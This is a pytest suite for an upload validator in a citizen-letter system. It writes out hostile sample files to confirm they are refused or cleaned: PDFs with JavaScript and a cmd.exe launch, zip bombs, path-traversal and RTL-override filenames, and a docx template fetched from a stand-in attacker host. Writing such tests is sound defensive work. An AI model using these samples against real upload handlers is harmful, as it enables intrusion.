"""收下附件: what is kept, under which name and type, and what is refused in a sentence."""

from __future__ import annotations

import datetime as dt
import io
import os
import struct
import zipfile
import zlib
from pathlib import Path
from typing import Any

import docx
import pytest
from PIL import Image

from shuniu.commons import ofd
from shuniu.commons.papers import shelf
from shuniu.commons.papers.actions import clear_unused, store
from shuniu.commons.papers.kinds import FOR_BROADCAST, FROM_CITIZENS
from shuniu.commons.papers.models import Blob, Paper
from shuniu.commons.papers.names import disposition
from shuniu.commons.papers.refusals import FileRefused
from shuniu.commons.papers.secrecy import StateSecret
from shuniu.commons.people.actor import citizen, system
from shuniu.commons.typeset import pdf
from shuniu.ground import clock

AT = clock.on(dt.date(2026, 11, 22))
CITIZEN = citizen(None, label="李某")
pytestmark = pytest.mark.django_db


def keep(data: bytes, name: str, **more: Any) -> Paper:
    return store(
        io.BytesIO(data), name, **{"by": CITIZEN, "at": AT, "allowed": FROM_CITIZENS, **more}
    )


def refused(data: bytes, name: str, **more: Any) -> str:
    before = len(list(shelf.files()))
    with pytest.raises(FileRefused) as caught:
        keep(data, name, **more)
    assert caught.value.field == "file"
    assert Paper.objects.count() == Blob.objects.count() == 0
    assert len(list(shelf.files())) == before
    return caught.value.sentence


def office_file(*members: str, content: bytes = b"<x/>") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for member in members:
            archive.writestr(member, PARTS.get(member, content))
    return out.getvalue()


DOCX = ("[Content_Types].xml", "_rels/.rels", "word/document.xml")
PDF = b"%PDF-1.7 letter\n%%EOF"
PARTS = {
    "_rels/.rels": b'<Relationships><Relationship Type="x/officeDocument"'
    b' Target="word/document.xml"/></Relationships>',
    "OFD.xml": b'<o:OFD xmlns:o="http://www.ofdspec.org/2016"><o:DocBody><o:DocRoot>Doc_0/Document.xml'
    b"</o:DocRoot></o:DocBody></o:OFD>",
    "Doc_0/Document.xml": b'<o:Document xmlns:o="http://www.ofdspec.org/2016"><o:Pages>'
    b'<o:Page ID="1" BaseLoc="P.xml"/></o:Pages></o:Document>',
}


def picture(fmt: str = "JPEG", size: tuple[int, int] = (64, 40), **more: Any) -> bytes:
    out = io.BytesIO()
    Image.effect_noise(size, 60).convert("RGB").save(out, fmt, **more)
    return out.getvalue()


def with_place(orientation: int = 6) -> bytes:
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x010F] = "SecretCamera"
    exif.get_ifd(0x8825)[2] = (35.0, 55.0, 12.0)
    return picture(exif=exif)


def test_same_content_is_kept_once_and_each_handing_in_is_a_paper() -> None:
    first = keep(PDF, "来信.pdf")
    second = keep(PDF, "副本.pdf")
    assert first.blob_id == second.blob_id
    assert (first.name, second.name) == ("来信.pdf", "副本.pdf")
    path = shelf.place(first.blob.digest)
    assert path.read_bytes() == PDF
    assert path.stat().st_mode & 0o077 == 0
    assert first.uploaded_by_label == "李某" and first.uploaded_by is None


@pytest.mark.parametrize(
    ("members", "name", "kind"),
    [
        (DOCX, "答复.docx", "docx"),
        (("[Content_Types].xml", "xl/workbook.xml"), "台账.xlsx", "xlsx"),
        (("OFD.xml", "Doc_0/Document.xml", "Doc_0/P.xml"), "公文.ofd", "ofd"),
    ],
)
def test_office_files_are_told_apart_by_their_members(
    members: tuple[str, ...], name: str, kind: str
) -> None:
    assert keep(office_file(*members), name).kind == kind


def test_an_ofd_is_not_a_docx() -> None:
    sentence = refused(office_file("OFD.xml"), "公文.docx")
    assert "OFD" in sentence and "后缀" in sentence


@pytest.mark.parametrize(
    ("data", "name", "words"),
    [
        (b"", "空.pdf", "空文件"),
        (b"\x00\x01\x02", "x.bin", "不是可以接收的文件"),
        (b"MZ\x90\x00" + b"\0" * 200, "照片.jpg", "不是可以接收的文件"),
        (b"<html><script>alert(1)</script>", "页面.html", "后缀"),
        (bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 600, "旧.doc", "旧格式"),
        (b"%PDF-1.7", "图.png", "后缀"),
        (b"PK\x03\x04 not a zip at all", "坏.docx", "损坏"),
        (b"\xff\xd8\xff\xe0" + b"\0" * 50, "坏.jpg", "损坏"),
    ],
)
def test_bad_files_are_refused_in_a_sentence(data: bytes, name: str, words: str) -> None:
    assert words in refused(data, name)


def test_a_zip_and_a_presentation_are_not_for_citizens() -> None:
    assert "不是可以接收" in refused(office_file("a.txt"), "资料.zip")
    slides = office_file("[Content_Types].xml", "ppt/presentation.xml")
    assert "演示文稿" in refused(slides, "汇报.pptx")


def test_bombs_are_refused_by_their_directory() -> None:
    assert "过大" in refused(
        office_file(*DOCX, "word/media/a.bin", content=b"\0" * 9_000_000), "a.docx"
    )
    many = office_file(*DOCX, *(f"word/{n}.xml" for n in range(5001)))
    assert "过大" in refused(many, "b.docx")
    nested = office_file(*DOCX, "word/embeddings/inner.zip")
    assert "不是可以接收" in refused(nested, "c.docx")


def test_overlapping_members_are_refused() -> None:
    whole = bytearray(office_file(*DOCX, content=os.urandom(3000)))
    at = whole.find(b"PK\x01\x02")
    while at != -1:  # each directory entry claims more than the file has
        whole[at + 20 : at + 24] = struct.pack("<I", len(whole))
        at = whole.find(b"PK\x01\x02", at + 4)
    refused(bytes(whole), "d.docx")


@pytest.mark.parametrize(
    ("inside", "words"),
    [
        (b"trailer<</Encrypt 5 0 R>>", "密码"),
        (b"1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>", "脚本"),
        (b"1 0 obj<</S/#4aavaScript>>", "脚本"),
        (b"1 0 obj<</S/Launch/F(cmd.exe)>>", "脚本"),
        (b"1 0 obj<</Names<</EmbeddedFiles 2 0 R>>>>", "内嵌文件"),
        (
            b"1 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\n"
            + zlib.compress(b"<</S/JavaScript>>")
            + b"\nendstream",
            "脚本",
        ),
        (b"1 0 obj<</Type/Page>>endobj\n" * 5000, "5000页"),
    ],
)
def test_a_pdf_that_does_things_or_has_no_end_is_refused(inside: bytes, words: str) -> None:
    assert words in refused(b"%PDF-1.7\n" + inside + b"\n%%EOF", "公文.pdf")


def test_a_pdf_cut_short_is_refused_and_a_plain_one_is_not() -> None:
    assert "损坏" in refused(b"%PDF-1.7\n1 0 obj<</Type/Page>>", "公文.pdf")
    picture_data = b"1 0 obj<<>>stream\n/JavaScript /Launch\nendstream\n"
    assert keep(b"%PDF-1.7\n" + picture_data + b"%%EOF", "公文.pdf").kind == "pdf"


def marked_docx(words: str) -> bytes:
    out = io.BytesIO()
    made = docx.Document()
    made.add_paragraph(words)
    made.add_paragraph("关于某项工作的通知")
    made.save(out)
    return out.getvalue()


def marked_pdf(folder: Path, words: str) -> bytes:
    (folder / "a.typ").write_text("#json(bytes(sys.inputs.data)).words", "utf-8")
    return pdf(folder / "a.typ", {"words": words})


def test_a_file_with_a_secrets_marking_is_refused_at_the_door(tmp_path: Path) -> None:
    made = marked_pdf(tmp_path, "机密★1年")
    for data, name in (
        ("机密★1年\n某某文件".encode(), "文件.txt"),
        (marked_docx("机密★1年"), "文件.docx"),
        (made, "文件.pdf"),
        (ofd.from_pdf(made, metadata={}), "文件.ofd"),
        (PDF, "【机密】关于某项工作的通知.pdf"),
    ):
        with pytest.raises(StateSecret) as caught:
            keep(data, name)
        assert caught.value.field == "file" and "严禁处理" in caught.value.sentence
    assert Paper.objects.count() == 0
    assert keep(marked_docx("关于保密工作的通知"), "保密工作.docx").kind == "docx"
    assert keep(marked_pdf(tmp_path, "关于保密工作的通知"), "保密工作.pdf").kind == "pdf"


def test_a_docx_that_fetches_and_an_ofd_without_pages_are_refused() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for member in DOCX:
            archive.writestr(member, PARTS.get(member, b"<x/>"))
        archive.writestr(
            "word/_rels/settings.xml.rels",
            '<Relationships><Relationship Type="x/attachedTemplate" TargetMode="External"'
            ' Target="http://evil.example/a.dotm"/></Relationships>',
        )
    assert "以外的模板" in refused(out.getvalue(), "g.docx")
    assert "缺少" in refused(office_file("OFD.xml", "Doc_0/Document.xml"), "h.ofd")


def test_members_that_climb_out_of_the_folder_are_refused() -> None:
    assert "损坏" in refused(office_file(*DOCX, "../../etc/passwd"), "e.docx")


def test_macros_are_refused() -> None:
    assert "宏" in refused(office_file(*DOCX, "word/vbaProject.bin"), "f.docx")


def test_encrypted_members_are_refused() -> None:
    whole = bytearray(office_file(*DOCX))
    at = whole.find(b"PK\x01\x02")
    whole[at + 8] |= 1
    assert "密码" in refused(bytes(whole), "g.docx")


def test_too_large_is_refused_with_size_and_limit() -> None:
    sentence = refused(b"a" * (1024 * 1024 + 1), "长.txt")
    assert "上限1.0 MB" in sentence


def test_text_is_kept_as_utf8() -> None:
    paper = keep("来信内容".encode("gb18030"), "说明.txt")
    assert shelf.place(paper.blob.digest).read_text("utf-8") == "来信内容"


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Users\\我\\信.pdf", "信.pdf"),
        ("a\0b.pdf", "ab.pdf"),
        ("evil\u202efdp.pdf", "evilfdp.pdf"),
        ("没有后缀", "没有后缀.pdf"),
        ("", "附件.pdf"),
        ("con.pdf", "附件_con.pdf"),
        ('a"<b>|c?.pdf', "a__b__c_.pdf"),
    ],
)
def test_names_are_cleaned(given: str, kept: str) -> None:
    assert keep(PDF, given).name == kept


def test_an_overlong_name_keeps_its_suffix() -> None:
    name = keep(PDF, "很长" * 300 + ".pdf").name
    assert len(name) == 100 and name.endswith("长.pdf")


def test_a_citizens_photograph_loses_its_place_but_stands_upright() -> None:
    data = with_place() + b"<?php tail ?>"
    stored = shelf.place(keep(data, "井盖.jpg").blob.digest).read_bytes()
    assert b"SecretCamera" not in stored and b"tail" not in stored
    with Image.open(io.BytesIO(stored)) as image:
        assert image.getexif().get(0x0112) == 6
        assert dict(image.getexif().get_ifd(0x8825)) == {}
        with Image.open(io.BytesIO(with_place())) as before:
            assert image.size == before.size


def test_the_pixels_stay_as_they_were() -> None:
    for fmt, name in (("JPEG", "a.jpg"), ("PNG", "a.png"), ("WEBP", "a.webp"), ("GIF", "a.gif")):
        data = picture(fmt)
        stored = shelf.place(keep(data, name).blob.digest).read_bytes()
        with Image.open(io.BytesIO(data)) as a, Image.open(io.BytesIO(stored)) as b:
            assert a.convert("RGB").tobytes() == b.convert("RGB").tobytes()


def test_png_and_webp_lose_their_hidden_words() -> None:
    exif = Image.Exif()
    exif[0x010F] = "SecretCamera"
    for fmt, name in (("PNG", "a.png"), ("WEBP", "a.webp")):
        data = picture(fmt, exif=exif)
        assert b"SecretCamera" in data
        assert b"SecretCamera" not in shelf.place(keep(data, name).blob.digest).read_bytes()


def test_a_progressive_photograph_passes() -> None:
    stored = shelf.place(keep(picture(progressive=True), "a.jpg").blob.digest).read_bytes()
    with Image.open(io.BytesIO(stored)) as image:
        image.load()


def test_staff_keep_the_place_as_evidence() -> None:
    paper = keep(with_place(), "现场.jpg", by=system())
    assert b"SecretCamera" in shelf.place(paper.blob.digest).read_bytes()


def test_a_picture_of_too_many_points_is_refused_before_it_is_unpacked() -> None:
    data = bytearray(picture("PNG"))
    data[16:24] = struct.pack(">II", 60000, 60000)
    data[29:33] = struct.pack(">I", zlib.crc32(data[12:29]))
    assert "尺寸太大" in refused(bytes(data), "大.png")


def test_sound_and_film_are_for_hot_letters_only() -> None:
    film = b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom" + b"\0" * 100
    assert keep(film, "播出.mp4", allowed=FOR_BROADCAST, by=system()).kind == "mp4"
    song = b"ID3\x04\0\0\0\0\0\0" + b"\0" * 100
    assert keep(song, "录音.mp3", allowed=FOR_BROADCAST, by=system()).kind == "mp3"


def test_sound_is_not_for_citizens() -> None:
    assert "MP3" in refused(b"ID3\x04\0\0\0\0\0\0" + b"\0" * 100, "录音.mp3")


def test_what_nothing_refers_to_is_cleared_after_a_day() -> None:
    paper = keep(PDF + b" unused", "草稿.pdf")
    path = shelf.place(paper.blob.digest)
    assert clear_unused(by=system(), at=AT + dt.timedelta(hours=23)) == 0
    later = AT + dt.timedelta(days=2)
    os.utime(path, (AT.timestamp(), AT.timestamp()))
    assert clear_unused(by=system(), at=later) == 1
    assert not path.exists() and not Blob.objects.exists()
    assert clear_unused(by=system(), at=later) == 0


def test_a_marking_in_a_table_is_refused_at_the_door() -> None:
    sheet = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    said = f'<sst xmlns="{sheet}"><si><t>机密★1年</t></si></sst>'
    typed = (
        f'<worksheet xmlns="{sheet}"><c t="inlineStr"><is><t>密级：机密</t></is></c></worksheet>'
    )
    for member, content in (("xl/sharedStrings.xml", said), ("xl/worksheets/sheet1.xml", typed)):
        data = office_file(
            "[Content_Types].xml", "xl/workbook.xml", member, content=content.encode()
        )
        with pytest.raises(StateSecret):
            keep(data, "台账.xlsx")
    assert not Paper.objects.exists()


def test_a_chinese_name_is_never_sent_as_a_hidden_file() -> None:
    """What an old browser takes that does not read ``filename*``."""
    assert 'filename="file.docx"' in disposition("会议通知.docx", inline=False)
    assert 'filename="2026_1.pdf"' in disposition("2026第1.pdf", inline=True)
